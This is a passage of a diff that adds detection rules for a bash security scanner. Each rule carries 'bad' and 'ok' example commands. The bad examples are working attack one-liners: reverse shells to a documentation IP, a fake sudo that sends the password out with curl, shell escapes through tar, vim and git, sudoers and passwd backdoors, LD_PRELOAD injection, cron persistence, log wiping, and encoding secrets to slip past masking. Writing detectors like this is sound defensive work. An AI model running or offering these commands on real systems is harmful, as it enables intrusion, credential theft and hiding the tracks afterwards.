+        message: 'Puts a function in the place of a program that people trust with passwords',
+        recommendation: 'Give the function a name of its own',
+        metadata: { capability: 'process', cwe: 'CWE-426' },
+        tags: ['stands-in'],
+        match: { assign: ['sudo', 'su', 'ssh', 'scp', 'passwd', 'gpg', 'login'].map((name) => `function.${name}`) },
+        bad: ['sudo() { command sudo -n "$@"; }', 'function ssh { command ssh -v "$@"; }'],
+        ok: ['run() { sudo "$@"; }', 'sudo_user() { echo "$SUDO_USER"; }'],
+    },
+    {
+        id: 'sh/process/steals-password',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Stands in for a program that people trust with passwords, and talks to the network',
+        recommendation: 'Take the function out',
+        metadata: { capability: 'process', cwe: 'CWE-522' },
+        match: { combine: ['stands-in', 'send'] },
+        bad: ['sudo() { read -rsp "password: " p; curl -d "$p" example.org; command sudo "$@"; }'],
+        ok: ['sudo() { command sudo -n "$@"; }; sudo ls', 'read -rsp "password: " p; curl -u "me:$p" https://example.org'],
+    },
+    {
+        id: 'sh/process/root',
+        languages: ['bash'],
+        severity: 'low',
+        message: 'Asks for more rights (sudo, su)',
+        recommendation: 'Run without sudo; the sandbox has no root',
+        metadata: { capability: 'process', cwe: 'CWE-250' },
+        match: { call: ['sudo', 'su', 'runuser'] },
+        bad: ['sudo apt-get update', 'su - postgres'],
+        ok: ['echo sudo', 'pseudo=1'],
+    },
+    {
+        id: 'sh/process/root-shell',
+        languages: ['bash'],
+        severity: 'medium',
+        message: 'Becomes root',
+        recommendation: 'Run without root',
+        metadata: { capability: 'process', cwe: 'CWE-250' },
+        match: [
+            { call: 'sudo', where: { flag: ['i', 's'] } },
+            { call: 'sudo', where: { arg: 0, equals: ['su', 'bash', 'sh', '/bin/bash', '/bin/sh', '-i', '-s'] } },
+            { call: 'su', where: { maxArgs: 1, arg: 0, is: 'missing' } },
+        ],
+        bad: ['sudo -i', 'sudo su -', 'sudo bash'],
+        ok: ['sudo apt-get install jq', 'sudo -u app ls'],
+    },
+];
+
+;// CONCATENATED MODULE: ./build/rules/bash-programs.js
+const bashProgramRules = [
+    {
+        id: 'sh/process/program-runs-shell',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Has an ordinary program start a shell through one of its options (tar, vim, find, zip …)',
+        recommendation: 'Leave the option out',
+        metadata: { capability: 'process', cwe: 'CWE-78' },
+        match: [
+            {
+                call: 'tar',
+                where: {
+                    arg: 'any',
+                    regex: '^--(checkpoint-action=exec|to-command|use-compress-program|info-script|rsh-command|new-volume-script)=',
+                },
+            },
+            {
+                call: ['vim', 'vi', 'ex', 'nvim', 'ed', 'less', 'more', 'gdb', 'ftp', 'mysql', 'psql', 'sqlite3'],
+                where: {
+                    arg: 'any',
+                    regex: '^[+:]{0,2}!|^shell |^\\\\!|^\\.shell|^\\.system|^:?(py|lua|python|py3) ?(import|os|vim)',
+                },
+            },
+            {
+                call: 'find',
+                where: [
+                    { flag: ['-exec', '-execdir', '-ok', '-okdir'] },
+                    { arg: 'any', regex: '^(/usr)?(/bin/)?(ba|da|z|k)?sh$' },
+                    { arg: 'any', equals: '-c', not: true },
+                ],
+            },
+            { call: 'zip', where: { arg: 'any', regex: '^(-TT|--unzip-command)' } },
+            {
+                call: ['ssh', 'scp', 'sftp', 'git', 'rsync'],
+                where: {
+                    arg: 'any',
+                    regex: 'ProxyCommand|LocalCommand=|^core\\.(sshCommand|pager|editor|fsmonitor|gitProxy)=|^alias\\.[a-z]+=!|^--upload-pack=|^ext::',
+                },
+            },
+            {
+                call: ['awk.shell', 'perl.shell', 'ruby.shell', 'php.shell', 'lua.shell', 'tclsh.shell'],
+            },
+            { call: 'sed', where: { arg: 'any', regex: '^[0-9$]{0,6}e \\w|^s/[^/]{0,80}/[^/]{0,80}/[gimp0-9]{0,3}e$' } },
+            { call: 'rsync', where: { arg: 'any', regex: '^(/usr)?(/bin/)?(ba|da|z|k)?sh -c' } },
+            {
+                call: 'git',
+                where: [
+                    {
+                        arg: 'any',
+                        regex: '^(core\\.(sshCommand|pager|editor|fsmonitor|hooksPath)|alias\\.\\w+|diff\\.external|sequence\\.editor)$',
+                    },
+                    { arg: 'any', regex: '^!|\\b(sh|bash|curl|wget|nc|python3?) |\\| ?(ba)?sh\\b|^/(tmp|var/tmp|dev/shm)/' },
+                ],
+            },
+            {
+                call: ['man', 'split', 'sort', 'rsync', 'socat', 'make'],
+                where: {
+                    arg: 'any',
+                    regex: '^--(pager|filter|compress-program|rsh|html)=(.*(sh|bash)\\b|/tmp/|\\./)|^SHELL=|^--eval=',
+                },
+            },
+        ],
+        bad: [
+            'tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh',
+            "vim -c ':!sh'",
+            'find . -exec /bin/sh \\; -quit',
+            "zip a.zip a -T -TT 'sh #'",
+            "ssh -o ProxyCommand='sh -c id' x",
+            "git -c core.sshCommand='sh x' fetch",
+            "git -c alias.x='!id' x",
+            "sed '1e id' /etc/hostname",
+            "less a.txt '+!sh'",
+            'awk \'BEGIN { system("/bin/sh -i") }\'',
+            'rsync -e \'sh -c "sh 0<&2 1>&2"\' 127.0.0.1:/dev/null',
+            'git config core.sshCommand \'sh -c "curl x|sh"\'',
+        ],
+        ok: [
+            'tar czf a.tgz src',
+            'vim -c ":q" a',
+            "find . -name '*.sh' -exec grep -l x {} +",
+            'ssh host uptime',
+            'find . -type f -exec sh -c \'echo "$1"\' _ {} \\;',
+            'git -c user.name=a commit -m x',
+            'git config core.editor vim',
+            'git config alias.st status',
+            "sed -e 's/a/e/' -n -e '1p' f",
+            "rsync -e 'ssh -p 22' a host:b",
+        ],
+    },
+    {
+        id: 'sh/process/one-liner-shell',
+        languages: ['bash'],
+        severity: 'medium',
+        message: 'Starts commands from a one-line program in another language (awk, perl, ruby, php)',
+        recommendation: 'Start the commands in the script itself',
+        metadata: { capability: 'process', cwe: 'CWE-78' },
+        match: [
+            {
+                call: [
+                    'awk.system',
+                    'perl.system',
+                    'ruby.system',
+                    'php.system',
+                    'lua.system',
+                    'tclsh.system',
+                    'osascript.system',
+                    'Rscript.system',
+                ],
+            },
+            { call: ['perl.kill', 'ruby.kill', 'perl.unlink', 'ruby.unlink', 'php.unlink'] },
+        ],
+        bad: [
+            'awk \'BEGIN { system("id") }\'',
+            'perl -e \'system("id")\'',
+            "ruby -e '`id`'",
+            'php -r \'shell_exec("id");\'',
+        ],
+        ok: ["awk '{ print $1 }' f", 'awk \'{ print "system(" $1 ")" }\' f', "perl -pe 's/a/b/' f", "ruby -e 'puts 1'"],
+    },
+    {
+        id: 'sh/dynamic-code/one-liner-eval',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Decodes and runs code in a one-line program of another language',
+        recommendation: 'Write the code out',
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-95' },
+        tags: ['disguise'],
+        match: [
+            {
+                all: [
+                    { call: ['perl.decode', 'ruby.decode', 'php.decode', 'lua.decode'] },
+                    { call: ['perl.eval', 'ruby.eval', 'php.eval', 'lua.eval', 'perl.system', 'ruby.system', 'php.system'] },
+                ],
+            },
+        ],
+        bad: [
+            'perl -MMIME::Base64 -e \'eval decode_base64("cHJpbnQgMQ==")\'',
+            'php -r \'eval(base64_decode("ZWNobyAxOw=="));\'',
+        ],
+        ok: ['perl -MMIME::Base64 -e \'print decode_base64("aGk=")\'', "php -r 'echo 1;'"],
+    },
+];
+
+;// CONCATENATED MODULE: ./build/rules/bash-remote.js
+/** Bash: ways in from outside (shells, tunnels, servers), and protection switched off. */
+
+const bashRemoteRules = [
+    {
+        id: 'sh/network/reverse-shell',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Gives a shell to another machine (reverse or bind shell)',
+        recommendation: 'Take it out; nothing in a repository needs a remote shell',
+        metadata: { capability: 'network', cwe: 'CWE-912' },
+        match: [
+            { redirect: { operator: ['<>', '>&', '&>', '&>>'], target: { prefix: ['/dev/tcp/', '/dev/udp/'] } } },
+            {
+                all: [
+                    { redirect: { target: { prefix: ['/dev/tcp/', '/dev/udp/'] } } },
+                    { call: [...SHELL_NAMES, '$command', 'eval'] },
+                ],
+            },
+            {
+                pipe: {
+                    from: ['nc', 'telnet', 'socat', 'openssl', '/dev/tcp'],
+                    to: [...SHELL_NAMES, 'eval', 'source', 'python', 'perl', 'ruby', 'php', 'node'],
+                },
+            },
+            { pipe: { from: SHELL_NAMES, to: ['nc', 'telnet', 'socat', 'openssl', 'curl'] } },
+            { call: 'nc', where: { flag: ['e', 'c', 'exec', 'sh-exec', 'lua-exec'] } },
+            { call: ['xterm', 'rxvt', 'gnome-terminal'], where: { flag: ['-display', 'display'] } },
+            { call: 'socat', where: { arg: 'any', regex: '(?i)(^|,)(exec|system):' } },
+            { call: ['ztcp', 'perl.socket', 'ruby.socket', 'php.socket', 'lua.socket', 'awk.socket', 'tclsh.socket'] },
+        ],
+        bad: [
+            'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
+            'sh -i 5<> /dev/tcp/198.51.100.7/9 0<&5 1>&5',
+            'nc -e /bin/sh 198.51.100.7 4444',
+            'ncat --exec /bin/bash -l 4444',
+            'socat TCP:198.51.100.7:4444 EXEC:/bin/sh',
+            'rm -f /tmp/p; mkfifo /tmp/p; cat /tmp/p | /bin/sh -i 2>&1 | nc 198.51.100.7 4444 >/tmp/p',
+            'telnet 198.51.100.7 1 | /bin/bash | telnet 198.51.100.7 2',
+            'perl -e \'use Socket; socket(S,2,1,6); connect(S,pack_sockaddr_in(1,inet_aton("x")));\'',
+            'awk \'BEGIN { s = "/inet/tcp/0/198.51.100.7/4444"; while (1) { s |& getline c } }\'',
+        ],
+        ok: ['nc -z localhost 5432 && echo up', 'socat -V', 'echo "bash -i >& /dev/tcp/1.2.3.4/4444"'],
+    },
+    {
+        id: 'sh/network/tunnel',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Opens a way into this machine or network from outside (tunnel)',
+        recommendation: 'Take the tunnel out',
+        metadata: { capability: 'network', cwe: 'CWE-441' },
+        match: [
+            { call: ['ssh', 'autossh'], where: { flag: ['R', 'D', 'w'] } },
+            { call: 'ssh', where: { arg: 'any', prefix: ['RemoteForward', 'DynamicForward', '-oRemoteForward'] } },
+            {
+                call: [
+                    'ngrok',
+                    'cloudflared',
+                    'chisel',
+                    'frpc',
+                    'bore',
+                    'localtunnel',
+                    'lt',
+                    'tmate',
+                    'gsocket',
+                    'gs-netcat',
+                    'pagekite',
+                ],
+            },
+        ],
+        bad: ['ssh -fN -R 2222:localhost:22 a@198.51.100.7', 'ngrok tcp 22'],
+        ok: ['ssh host uptime', 'ssh -i key -p 22 a@example.org ls'],
+    },
+    {
+        id: 'sh/network/server',
+        languages: ['bash'],
+        severity: 'medium',
+        message: 'Listens for connections or searches the network for machines',
+        recommendation: 'Leave the server or the search out',
+        metadata: { capability: 'network' },
+        tags: ['send'],
+        match: [
+            { call: 'nc', where: { flag: ['l', 'listen'] } },
+            { call: 'socat', where: { arg: 'any', regex: '(?i)-listen:' } },
+            {
+                call: ['nmap', 'masscan', 'zmap', 'arp-scan', 'tcpdump', 'tshark', 'hydra', 'hping3', 'ettercap', 'responder'],
+            },
+            { call: ['ssh', 'autossh'], where: { flag: ['L'] } },
+        ],
+        bad: ['nc -lvp 4444', 'nmap -sS 192.0.2.0/24'],
+        ok: ['nc -z localhost 80', 'python3 -m json.tool data.json', 'ls -l'],
+    },
+    {
+        id: 'sh/network/file-server',
+        languages: ['bash'],
+        severity: 'low',
+        message: 'Serves files over HTTP',
+        recommendation: 'Read the files where they are',
+        metadata: { capability: 'network' },
+        tags: ['send', 'serves'],
+        match: [
+            { call: 'python', where: { arg: 'any', equals: ['http.server', 'SimpleHTTPServer', 'pyftpdlib'] } },
+            { call: 'php', where: { flag: ['S'] } },
+        ],
+        bad: ['python3 -m http.server 8000', 'php -S localhost:8000'],
+        ok: ['python3 -m json.tool data.json', 'php -v'],
+    },
+    {
+        id: 'sh/network/filters-off',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Switches protection of the machine off (firewall, SELinux, AppArmor, audit)',
+        recommendation: 'Leave the machine as it is configured',
+        metadata: { capability: 'network', cwe: 'CWE-693' },
+        match: [
+            {
+                call: ['iptables', 'ip6tables', 'nft', 'ufw', 'firewall-cmd'],
+                where: { arg: 'any', equals: ['-F', '--flush', 'flush', 'disable', '-X', '-P', 'reset'] },
+            },
+            { call: 'setenforce', where: { arg: 0, equals: ['0', 'Permissive', 'permissive'] } },
+            { call: 'auditctl', where: { arg: 'any', equals: ['-e', '-e0', '-D'] } },
+            { call: ['aa-teardown', 'aa-disable', 'aa-complain'] },
+            {
+                call: ['systemctl', 'service'],
+                where: [
+                    { arg: 'any', equals: ['stop', 'disable', 'mask'] },
+                    {
+                        arg: 'any',
+                        regex: '^(auditd|rsyslog|syslog|firewalld|ufw|apparmor|fail2ban|falco|crowdstrike|falcon-sensor|clamav\\S*)(\\.service)?$',
+                    },
+                ],
+            },
+        ],
+        bad: ['iptables -F', 'sudo setenforce 0', 'systemctl stop auditd', 'service rsyslog stop'],
+        ok: ['iptables -L', 'systemctl status nginx', 'getenforce'],
+    },
+];
+
+;// CONCATENATED MODULE: ./build/rules/bash-rights.js
+/** Files that say who is who and who may what. */
+const RIGHTS_FILES = '(^|/)etc/(sudoers|passwd|shadow|group|gshadow|pam\\.d/|security/|doas\\.conf)|authorized_keys';
+const bashRightsRules = [
+    {
+        id: 'sh/process/rights',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Gives a program or person lasting rights of root (setuid, sudoers, accounts, capabilities)',
+        recommendation: 'Take it out',
+        metadata: { capability: 'process', cwe: 'CWE-732' },
+        match: [
+            {
+                call: 'chmod',
+                where: {
+                    arg: 'any',
+                    regex: ['^[ugoa]*\\+[rwxt]*s', '^0?[24567][0-7]{3}$', '^[ug]=[rwxt]*s', '^=?[ugoa]*\\+s'],
+                },
+            },
+            { call: 'install', where: { arg: 'any', regex: '^(-m)?[u+]?[sS=]*[46][0-7]{3}$' } },
+            { call: ['setcap', 'chpasswd', 'visudo'] },
+            { call: 'passwd', where: { flag: ['d', 'delete', 'stdin', 'u', 'unlock'] } },
+            { call: ['usermod', 'gpasswd', 'adduser'], where: { arg: 'any', regex: '^(sudo|wheel|root|docker|admin|adm)$' } },
+            { call: ['useradd', 'usermod'], where: [{ flag: ['u', 'o'] }, { arg: 'any', equals: '0' }] },
+            { redirect: { operator: ['>', '>>', '>|', '<>'], target: { regex: RIGHTS_FILES } } },
+            { call: ['tee', 'cp', 'mv', 'ln', 'install'], where: { arg: -1, regex: RIGHTS_FILES } },
+            { call: 'sed', where: [{ flag: ['i', 'in-place'] }, { arg: 'any', regex: RIGHTS_FILES }] },
+        ],
+        bad: [
+            'chmod u+s /bin/bash',
+            'chmod 4755 tool',
+            'cp /bin/sh /tmp/s; chmod +s /tmp/s',
+            'echo "a ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers',
+            'echo root:x | chpasswd',
+            'usermod -aG sudo a',
+            'echo "x::0:0::/:/bin/sh" | tee -a /etc/passwd',
+        ],
+        ok: ['chmod +x run.sh', 'chmod 755 run.sh', 'chmod 0644 a.txt', 'echo "chmod u+s"', 'useradd app'],
+    },
+    {
+        id: 'sh/process/accounts',
+        languages: ['bash'],
+        severity: 'medium',
+        message: 'Creates or changes accounts, or looks for programs that run as root',
+        recommendation: 'Leave accounts alone',
+        metadata: { capability: 'process', cwe: 'CWE-250' },
+        match: [
+            { call: ['useradd', 'adduser', 'usermod', 'userdel', 'deluser', 'groupadd', 'passwd', 'chsh', 'chage'] },
+            { call: 'find', where: { arg: 'any', regex: '^[-/]?0?[246]0{3}$|^[-/]?[ugo]{1,3}[=+]s$' } },
+            { call: ['getcap', 'sudo'], where: { arg: 'any', equals: ['-r', '-l', '-ll'] } },
+        ],
+        bad: ['useradd app', 'find / -perm -4000 -type f', 'find / -perm -u=s', 'sudo -l'],
+        ok: ['id app', 'find . -perm 644', 'groups', 'sudo ls'],
+    },
+];
+
+;// CONCATENATED MODULE: ./build/rules/bash-secrets.js
+const SECRET_NAMES = [
+    'env.*TOKEN*',
+    'env.*SECRET*',
+    'env.*PASSWORD*',
+    'env.*PASSWD*',
+    'env.*API_KEY*',
+    'env.*APIKEY*',
+    'env.*ACCESS_KEY*',
+    'env.*PRIVATE_KEY*',
+    'env.*CREDENTIAL*',
+    'env.AWS_*',
+    'env.*_PAT',
+    'env.SSH_AUTH_SOCK',
+    'env.*_token',
+    'env.*_secret',
+    'env.*password*',
+];
+/** What makes text unreadable for people and for the masking of a log. */
+const ENCODERS = ['base64', 'base32', 'basenc', 'xxd', 'od', 'hexdump', 'rev', 'gzip', 'bzip2', 'xz', 'uuencode'];
+const bashSecretRules = [
+    {
+        id: 'sh/environment-secrets/dump',
+        languages: ['bash'],
+        severity: 'low',
+        message: 'Lists the whole environment',
+        recommendation: 'Read the one variable that is needed',
+        metadata: { capability: 'environment-secrets', cwe: 'CWE-526' },
+        tags: ['secrets'],
+        match: [
+            { call: ['env', 'printenv', 'set'], where: { maxArgs: 0 } },
+            { call: ['env', 'printenv'], where: { maxArgs: 1, flag: ['0', 'null'] } },
+            { call: ['export', 'declare', 'typeset', 'readonly'], where: { maxArgs: 1, flag: ['p', 'x', 'px', 'xp'] } },
+            { call: ['export', 'declare'], where: { maxArgs: 0 } },
+            { call: 'compgen', where: { flag: ['e', 'v'] } },
+            { call: ['perl.env', 'ruby.env', 'awk.env', 'php.env'] },
+        ],
+        bad: [
+            'env',
+            'printenv | sort',
+            'export -p',
+            'compgen -e',
+            "awk 'BEGIN { for (k in ENVIRON) print k, ENVIRON[k] }'",
+        ],
+        ok: ['env A=1 ls', 'set -e', 'printenv HOME', 'export A=1', 'echo env'],
+    },
+    {
+        id: 'sh/environment-secrets/named',
+        languages: ['bash'],
+        severity: 'low',
+        message: 'Reads a variable that is named like a secret',
+        recommendation: 'Take secrets out of what runs from a comment',
+        metadata: { capability: 'environment-secrets', cwe: 'CWE-526' },
+        tags: ['secrets'],
+        match: [
+            {
+                attribute: SECRET_NAMES,
+            },
+            { call: 'printenv', where: { arg: 'any', regex: '(?i)token|secret|password|_key' } },
+        ],
+        bad: ['echo "$GITHUB_TOKEN"', 'printenv AWS_SECRET_ACCESS_KEY', 'x="${DB_PASSWORD:-none}"'],
+        ok: ['TOKEN=abc; echo "$TOKEN"', 'echo "$HOME"', 'echo "TOKEN"'],
+    },
+    {
+        id: 'sh/environment-secrets/store',
+        languages: ['bash'],
+        severity: 'medium',
+        message: 'Asks a store of secrets or a tool for its credentials',
+        recommendation: 'Take it out',
+        metadata: { capability: 'environment-secrets', cwe: 'CWE-522' },
+        tags: ['secrets'],
+        match: [
+            {
+                call: 'gh',
+                where: [
+                    { arg: 0, equals: 'auth' },
+                    { arg: 1, equals: ['token', 'status'] },
+                ],
+            },
+            { call: 'git', where: { arg: 'any', regex: '^(credential|(http\\..*)?extraheader|credential\\.helper)$' } },
+            {
+                call: 'aws',
+                where: {
+                    arg: 'any',
+                    regex: '^(get-secret-value|get-session-token|export-credentials|get-caller-identity|assume-role|configure)$',
+                },
+            },
+            { call: ['kubectl', 'oc'], where: { arg: 'any', regex: '^secrets?(/|$)' } },
+            { call: 'gcloud', where: { arg: 'any', regex: '^(print-access-token|print-identity-token|secrets)$' } },
+            { call: ['vault', 'pass', 'op', 'secret-tool', 'security', 'keyctl', 'bw', 'doppler', 'chamber'] },
+            { call: ['gpg', 'gpg2'], where: { flag: ['export-secret-keys', 'export-secret-subkeys'] } },
+        ],
+        bad: [
+            'gh auth token',
+            'git config --get http.https://github.com/.extraheader',
+            'kubectl get secrets -o yaml',
+            'aws sts get-session-token',
+            'pass show mail',
+        ],
+        ok: ['gh pr list', 'git config user.name', 'kubectl get pods', 'echo vault'],
+    },
+    {
+        id: 'sh/environment-secrets/encoded',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Writes secrets in another form, so that masking does not see them',
+        recommendation: 'Leave secrets out of what is printed',
+        metadata: { capability: 'environment-secrets', cwe: 'CWE-200' },
+        match: [
+            { pipe: { from: ['env', 'printenv', 'set', 'export', 'declare'], to: ENCODERS } },
+            { all: [{ attribute: SECRET_NAMES }, { pipe: { to: ENCODERS } }] },
+            { all: [{ attribute: SECRET_NAMES }, { call: ENCODERS }] },
+            {
+                all: [
+                    { attribute: SECRET_NAMES },
+                    {
+                        pipe: {
+                            from: ['echo', 'printf', 'cat', 'printenv'],
+                            to: ['sed', 'fold', 'tr', 'awk', 'cut', 'tac', 'perl'],
+                        },
+                    },
+                ],
+            },
+            { all: [{ call: 'git', where: { arg: 'any', contains: 'extraheader' } }, { pipe: { to: ENCODERS } }] },
+        ],
+        bad: ['env | base64', 'echo "$GITHUB_TOKEN" | rev', 'xxd -p <<< "$NPM_TOKEN"', 'printenv | gzip | xxd'],
+        ok: ['env | sort', 'TOKEN=abc; echo "$TOKEN" | base64', 'echo "$HOME" | base64', 'base64 a.bin'],
+    },
+    {
+        id: 'sh/environment-secrets/search',
+        languages: ['bash'],
+        severity: 'medium',
+        message: 'Searches the system for passwords and keys',
+        recommendation: 'Take the search out',
+        metadata: { capability: 'environment-secrets', cwe: 'CWE-522' },
+        tags: ['secrets'],
+        match: [
+            {
+                call: ['grep', 'egrep', 'rg', 'ag', 'ack'],
+                where: [
+                    { arg: 'any', regex: '(?i)passw|secret|token|api_?key|AKIA|private.key|BEGIN (RSA|OPENSSH)' },
+                    { arg: 'any', regex: '^(/|~|/home|/etc|/root|/var|/opt|/proc|/srv|/usr)(/|$)' },
+                ],
+            },
+            {
+                call: ['find', 'locate', 'fd'],
+                where: {
+                    arg: 'any',
+                    regex: '(?i)^\\*?\\.(pem|key|p12|pfx|kdbx|ovpn|env|netrc|htpasswd)$|id_(rsa|ed25519)|^\\*?(password|secret|credential)|wallet',
+                },
+            },
+            { call: ['trufflehog', 'gitleaks', 'linpeas.sh', 'LinEnum.sh', 'pspy64', 'pspy'] },
+        ],
+        bad: ["grep -rE 'password|secret' /home /etc", "find / -name '*.pem'", "grep -r 'BEGIN RSA' ~"],
+        ok: ['grep -c password README.md', "find . -name '*.py'", 'grep -r TODO src'],
+    },
+    {
+        id: 'sh/native/preload',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Puts foreign code into every program that starts (LD_PRELOAD)',
+        recommendation: 'Take it out',
+        metadata: { capability: 'native', cwe: 'CWE-426' },
+        match: [
+            { assign: ['LD_PRELOAD', 'LD_AUDIT', 'DYLD_INSERT_LIBRARIES', 'GCONV_PATH', 'BASH_FUNC_*'] },
+            { assign: ['LD_LIBRARY_PATH', 'PATH'], value: { regex: '^(\\.|/tmp|/dev/shm|/var/tmp)(/|:|$)' } },
+            {
+                assign: [
+                    'NODE_OPTIONS',
+                    'PYTHONSTARTUP',
+                    'PERL5OPT',
+                    'RUBYOPT',
+                    'JAVA_TOOL_OPTIONS',
+                    'PERL5DB',
+                    'PYTHONINSPECT',
+                    'BASH_ENV',
+                    'ENV',
+                    'GIT_SSH_COMMAND',
+                ],
+                value: { regex: '-r|--require|--import|-M|-javaagent|/tmp|\\./|system|exec' },
+            },
+        ],
+        bad: [
+            'LD_PRELOAD=/tmp/x.so ls',
+            'export LD_PRELOAD=./x.so',
+            'env LD_PRELOAD=./x.so id',
+            'PATH=/tmp:$PATH',
+            "NODE_OPTIONS='--require ./x.js' node app.js",
+        ],
+        ok: [
+            'PATH="$HOME/bin:$PATH"',
+            'echo LD_PRELOAD',
+            'LD_LIBRARY_PATH=/opt/lib ./app',
+            'NODE_OPTIONS=--max-old-space-size=4096 node a.js',
+        ],
+    },
+    {
+        id: 'sh/native/kernel',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Loads code into the kernel or into the shell, or reads the memory of another program',
+        recommendation: 'Take it out',
+        metadata: { capability: 'native', cwe: 'CWE-250' },
+        match: [
+            { call: ['insmod', 'modprobe', 'rmmod', 'kexec', 'bpftool', 'bpftrace', 'dkms', 'depmod', 'gcore', 'ptrace'] },
+            { call: 'enable', where: { flag: 'f' } },
+            { call: ['ssh-keygen', 'ssh-add'], where: { arg: 'any', regex: '\\.so(\\.\\d)?$' } },
+            { call: ['gdb', 'strace', 'ltrace', 'lldb'], where: { flag: ['p', 'pid', 'attach'] } },
+            { call: 'sysctl', where: { flag: ['w', 'write'] } },
+            { call: 'ldconfig', where: { minArgs: 1 } },
+        ],
+        bad: ['insmod rootkit.ko', 'enable -f ./x.so x', 'gdb -p 1', 'sysctl -w kernel.randomize_va_space=0'],
+        ok: ['lsmod', 'enable -n test', 'gdb ./a.out', 'sysctl -a'],
+    },
+    {
+        id: 'sh/native/compile',
+        languages: ['bash'],
+        severity: 'low',
+        message: 'Compiles native code',
+        recommendation: 'Have the program built before',
+        metadata: { capability: 'native' },
+        match: { call: ['gcc', 'g++', 'cc', 'c++', 'clang', 'clang++', 'rustc', 'ld', 'as', 'nasm', 'tcc', 'zig'] },
+        bad: ['gcc -o a a.c'],
+        ok: ['echo gcc'],
+    },
+];
+
+;// CONCATENATED MODULE: ./build/rules/bash-writes.js
+const LOGS = '(^|/)var/log(/|$)|(^|/)\\.(bash|zsh|sh|python|mysql)_history$|(^|/)var/run/utmp|wtmp|btmp|lastlog';
+const STARTUP = '(^|~|/)\\.(bashrc|bash_profile|bash_login|bash_logout|profile|zshrc|zprofile|zshenv|xinitrc|xsession|config/autostart|config/fish|gitconfig|vimrc|inputrc|pam_environment)';
+const PERSISTENT = '(^|/)etc/(cron|crontab|systemd|init\\.d|rc\\.local|rc\\d|profile|bash\\.bashrc|environment|ld\\.so|update-motd|apt/apt\\.conf|anacrontab|xinetd|udev|hosts$|resolv|NetworkManager|logrotate|inittab)|(^|/)var/spool/(cron|at)|(^|/)(usr/)?lib/systemd|\\.config/systemd|LaunchAgents|LaunchDaemons';
+/** Who may log in, and what then runs. */
+const ACCOUNTS = '(^|/|~)\\.ssh/(config|rc|environment|authorized_keys)|^/etc/(passwd|shadow|gshadow|group|sudoers|pam\\.d|ssh/sshd_config|security)(/|$|\\.d/)';
+const WRITES = ['>', '>>', '>|', '&>', '&>>', '<>'];
+const WRITERS = ['tee', 'cp', 'mv', 'ln', 'install'];
+const bashWriteRules = [
+    {
+        id: 'sh/filesystem/covers-tracks',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Deletes or switches off histories and logs',
+        recommendation: 'Leave histories and logs as they are',
+        metadata: { capability: 'filesystem', cwe: 'CWE-117' },
+        match: [
+            { call: 'history', where: { flag: ['c', 'd', 'w'] } },
+            { call: 'unset', where: { arg: 'any', equals: ['HISTFILE', 'HISTSIZE', 'HISTFILESIZE'] } },
+            { assign: ['HISTFILE'], value: { equals: ['/dev/null', ''] } },
+            { assign: ['HISTSIZE', 'HISTFILESIZE'], value: { equals: ['0', ''] } },
+            { call: 'set', where: { arg: 1, equals: 'history' } },
+            {
+                call: ['rm', 'shred', 'truncate', 'unlink', 'wipe', 'srm', 'cp', 'ln', 'mv', 'tee'],
+                where: { arg: 'any', regex: LOGS },
+            },
+            { call: 'sed', where: [{ flag: ['i', 'in-place'] }, { arg: 'any', regex: LOGS }] },
+            { redirect: { operator: ['>', '>|', '&>'], target: { regex: LOGS } } },
+            { call: 'journalctl', where: { flag: ['vacuum-time', 'vacuum-size', 'rotate'] } },
+            { call: 'wevtutil' },
+        ],
+        bad: [
+            'history -c',
+            'unset HISTFILE',
+            'export HISTFILE=/dev/null',
+            'HISTSIZE=0',
+            'rm -f ~/.bash_history',
+            '> /var/log/auth.log',
+            'truncate -s 0 /var/log/syslog',
+            'ln -sf /dev/null ~/.bash_history',
+            'journalctl --vacuum-time=1s',
+        ],
+        ok: ['history | tail', 'HISTSIZE=1000', 'tail -n1 /var/log/syslog', 'rm -f build.log', 'echo done >> build.log'],
+    },
+    {
+        id: 'sh/filesystem/persistence',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Plants something that runs again later (cron, systemd, ssh keys, the dynamic linker)',
+        recommendation: 'Take it out; what runs in a sandbox ends with it',
+        metadata: { capability: 'filesystem', cwe: 'CWE-506' },
+        match: [
+            { redirect: { operator: WRITES, target: { regex: PERSISTENT } } },
+            { call: WRITERS, where: [{ minArgs: 1, arg: -1, regex: PERSISTENT }] },
+            { call: 'sed', where: [{ flag: ['i', 'in-place'] }, { arg: 'any', regex: PERSISTENT }] },
+            { call: 'crontab', where: { flag: ['l', 'V'], not: true } },
+            {
+                call: ['systemctl', 'update-rc.d', 'chkconfig', 'launchctl'],
+                where: { arg: 'any', equals: ['enable', 'defaults', 'load', 'bootstrap', 'on'] },
+            },
+        ],
+        bad: [
+            '(crontab -l; echo "* * * * * /tmp/x") | crontab -',
+            'echo "* * * * * root /tmp/x" > /etc/cron.d/x',
+            'cp x.service /etc/systemd/system/',
+            'systemctl enable x',
+            'echo /tmp/x.so >> /etc/ld.so.preload',
+            'echo "* * * * * /tmp/x" | tee -a /etc/crontab',
+        ],
+        ok: ['crontab -l', 'systemctl list-units', 'cat /etc/crontab', 'echo "/etc/cron.d"', 'cp crontab.txt backup/'],
+    },
+    {
+        id: 'sh/filesystem/account-files',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Changes or empties the files that say who may log in',
+        recommendation: 'Leave accounts as they are',
+        metadata: { capability: 'filesystem', cwe: 'CWE-732' },
+        match: [
+            { redirect: { operator: WRITES, target: { regex: ACCOUNTS } } },
+            { call: WRITERS, where: [{ minArgs: 1, arg: -1, regex: ACCOUNTS }] },
+            { call: ['truncate', 'rm', 'shred', 'unlink', 'chattr', 'ed', 'visudo'], where: { arg: 'any', regex: ACCOUNTS } },
+            { call: 'dd', where: { arg: 'any', regex: `^of=${ACCOUNTS.slice(ACCOUNTS.indexOf('/etc'))}` } },
